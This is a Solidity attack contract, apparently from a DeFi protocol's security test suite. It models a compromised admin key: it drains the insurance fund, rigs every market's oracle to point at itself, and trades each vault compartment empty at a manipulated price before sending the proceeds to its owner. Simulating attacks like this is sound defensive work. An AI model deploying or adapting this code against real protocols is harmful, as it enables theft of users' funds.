// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IMarketLike, IVaultLike} from "./AttackBase.sol";

interface IOracleAdmin {
    function setSource(uint256 marketId, address feed, address pool) external;
}

interface IInsuranceAdmin {
    function withdraw(address to, uint256 amount) external;
    function balance() external view returns (uint256);
}

/// @notice Compromised admin key (or a malicious proposal, Beanstalk-style): once granted the governor
/// role, this contract takes the insurance fund, points every market's oracle at itself (a rigged
/// AggregatorV3 feed), moves idle liquidity into a compartment, and trades each compartment empty.
contract AdminTakeoverAttack is AttackBase {
    IOracleAdmin public immutable oracle;
    IVaultLike public immutable vault;
    IInsuranceAdmin public immutable insurance;
    int256 public answer = 1e8;

    constructor(IERC20 usd_, IOracleAdmin oracle_, IVaultLike vault_, IInsuranceAdmin insurance_)
        AttackBase(usd_)
    {
        oracle = oracle_;
        vault = vault_;
        insurance = insurance_;
    }

    // ---- the rigged feed ----
    function decimals() external pure returns (uint8) {
        return 8;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, answer, block.timestamp, block.timestamp, 1);
    }

    function drain(address[] calldata markets) external onlyOwner {
        insurance.withdraw(address(this), insurance.balance());
        vault.allocate(0, vault.idle());
        for (uint256 i = 0; i < markets.length; i++) {
            IMarketLike m = IMarketLike(markets[i]);
            uint256 id = m.marketId();
            uint256 target = vault.compartment(id);
            if (target == 0) continue;
            oracle.setSource(id, address(this), address(0));
            answer = 1e8;
            uint256 size = target / 50 + 1e6;
            usd.approve(address(m), type(uint256).max);
            m.openPosition(true, size / 4, size);
            answer = 100e8;
            m.closePosition();
        }
        usd.transfer(owner, usd.balanceOf(address(this)));
    }
}
